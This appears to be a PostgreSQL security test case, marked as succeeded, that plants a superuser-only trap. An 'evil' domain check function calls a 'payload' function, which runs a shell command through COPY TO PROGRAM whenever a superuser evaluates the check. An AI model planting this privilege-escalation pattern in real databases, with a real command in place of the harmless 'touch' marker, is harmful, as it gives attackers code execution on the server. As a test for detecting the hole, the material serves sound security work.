-- tries: a domain whose check runs where it is used
-- ends: SUCCEEDED
-- leaves: function public.evil(integer) | domain public.d | table public.t | function public.payload()
create function payload() returns int language plpgsql as $$ begin execute 'copy (select 1) to program ''touch ${FILE}'''; return 1; end $$;
create function evil(int) returns bool immutable language plpgsql as $$
begin if current_setting('is_superuser') = 'on' then perform public.payload(); end if; return true; end $$;
create domain d as int default 1 check (evil(value));
create table t (x d default 1);
